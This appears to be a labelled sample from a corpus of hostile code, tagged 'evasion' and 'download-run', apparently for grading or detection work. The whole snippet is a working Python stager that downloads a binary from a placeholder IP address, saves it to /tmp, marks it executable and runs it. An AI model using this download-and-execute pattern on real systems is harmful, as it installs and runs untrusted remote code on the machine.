# evasion: a binary downloaded, made executable, run
# grade: medium; does: download-run
import urllib.request, subprocess
data = urllib.request.urlopen("http://203.0.113.5/bin").read()
open("/tmp/b", "wb").write(data)
__import__("os").chmod("/tmp/b", 0o755)
subprocess.run("/tmp/b")
